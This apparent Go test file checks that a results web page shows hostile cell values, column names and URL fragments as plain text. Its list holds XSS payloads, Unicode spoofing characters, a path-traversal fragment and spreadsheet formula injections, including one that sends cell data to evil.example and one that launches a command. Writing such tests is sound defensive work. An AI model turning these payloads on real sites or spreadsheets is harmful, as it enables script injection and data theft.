package page

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
)

// hostile are values that want to be something else than text.
var hostile = []string{
	`<img src=x onerror="window.owned=1;alert(1)">`,
	`</script><script>window.owned=1;alert(2)</script>`,
	`javascript:window.owned=1`,
	`"><svg onload=window.owned=1>`,
	`<a href="javascript:window.owned=1">click</a>`,
	`{{constructor.constructor('window.owned=1')()}}`,
	"evil\u202egnp.exe",
	"two\u2066hidden\u2069",
	"zero\u200bwidth",
	"\x07bell",
	`=HYPERLINK("http://evil.example/?"&A1,"open")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`<iframe src="http://evil.example/"></iframe>`,
	`<style>*{display:none}</style>`,
	`&lt;img&gt;`,
}

// nothingRan checks that none of it was taken for anything but text.
func nothingRan(b *tab, site string) {
	b.t.Helper()
	if eval[bool](b, `"owned" in window`) {
		b.t.Error("a value was executed")
	}
	if n := eval[int](b, `document.querySelectorAll("main img, main script, main iframe, main style, main object, main [onload], main [onerror], main a:not([href^='#/'])").length`); n != 0 {
		b.t.Errorf("%d elements were made of values", n)
	}
	b.quiet(site)
}

// Cells, input, column names, errors and the name of the map: whatever they hold is shown as the text that it is.
func TestNothingForeignIsExecuted(t *testing.T) {
	w := newWorld(t)
	var lines strings.Builder
	out := csv.NewWriter(&lines)
	column := `<img src=x onerror="window.owned=1">`
	_ = out.Write([]string{"x", column})
	for _, h := range hostile {
		_ = out.Write([]string{h, h})
		_ = out.Write([]string{"fail" + h, h})
	}
	out.Flush()
	text := strings.Replace(mapText, "name: enrich-leads", `name: '<script>window.owned=1</script>'`, 1)
	if err := w.end(w.drive(w.started("monday", text, strings.TrimSpace(lines.String())))); err != nil {
		t.Fatal(err)
	}
	s := newSite(t, "/", w.api)
	b := newTab(t)
	b.open(s.URL)
	b.sees("table.runs .name", "<script>window.owned=1</script>")
	nothingRan(b, s.URL)

	b.open(s.runPage("monday"))
	b.sees(".subtitle", "<script>window.owned=1</script>")
	b.sees("table.rows thead", column)
	for _, h := range hostile {
		shown := h
		for char, written := range map[string]string{"\u202e": `\u202e`, "\u2066": `\u2066`, "\u2069": `\u2069`, "\u200b": `\u200b`, "\x07": `\x07`} {
			shown = strings.ReplaceAll(shown, char, written)
		}
		b.sees("table.rows tbody", shown)
		b.sees("table.rows td.bad", "422 Unprocessable Entity: fail"+shown)
	}
	for i := range 4 { // all of a row: two that are complete, two that failed
		b.click(fmt.Sprintf("table.rows tbody:nth-of-type(%d) button.row-number", i+1))
	}
	b.sees(".row-detail pre", hostile[0])
	b.sees(".row-detail", "HTTP_422")
	b.picture("rows")
	nothingRan(b, s.URL)

	// Whatever stands behind the # of the address.
	for _, place := range []string{`#/runs/<img src=x onerror=alert(1)>`, `#/runs/%3Cimg%20src=x%20onerror=alert(1)%3E`, `#javascript:alert(1)`, `#/runs/%E0%A4%A`,
		`#/runs/monday?rows=<b>&from=<b>`, `#/?before=<script>`, `#/runs/..%2f..%2fpage`} {
		b.open("about:blank") // else the page of the place before is still there for a moment
		b.open(s.URL + "?" + place)
		b.until("an answer", `["#trouble", ".content", ".empty", "table.runs .name"].some((of) => document.querySelector(of)?.checkVisibility())`)
		nothingRan(b, s.URL)
	}
}

// A cell of a megabyte neither stops the page nor is it cut without a word.
func TestAMegabyteInACell(t *testing.T) {
	w := newWorld(t)
	large := strings.Repeat("0123456789", 100_000)
	if err := w.end(w.drive(w.started("monday", mapText, "x", large, "ok"))); err != nil {
		t.Fatal(err)
	}
	s := newSite(t, "/", w.api)
	b := newTab(t)
	b.open(s.runPage("monday"))
	b.sees("table.rows", "0123456789")
	if n := eval[int](b, `document.querySelector("table.rows").textContent.length`); n > 2000 {
		t.Errorf("the table has %d characters", n)
	}
	b.click("table.rows tbody:first-of-type button.row-number")
	b.sees(".row-detail", "The first part of 1,000,000 characters")
	if n := eval[int](b, `document.querySelector("table.rows").textContent.length`); n > 100_000 {
		t.Errorf("the row has %d characters on the page", n)
	}
	b.quiet(s.URL)
}

// Numbers that a double cannot hold are shown as they are stored (M2).
func TestM2NumbersAreShownAsTheyAre(t *testing.T) {
	w := newWorld(t)
	text := `
version: 1
columns:
  - {name: big, value: "${9007199254740993}"}
  - {name: small, value: "${0.1}"}
  - {name: list, value: "${[9223372036854775807, 1]}"}
`
	if err := w.end(w.drive(w.started("monday", text, "x", "1"))); err != nil {
		t.Fatal(err)
	}
	s := newSite(t, "/", w.api)
	b := newTab(t)
	b.open(s.runPage("monday"))
	b.sees("table.rows", "9007199254740993")
	b.sees("table.rows", "0.1")
	b.sees("table.rows", "[9223372036854775807,1]")
	b.quiet(s.URL)
}
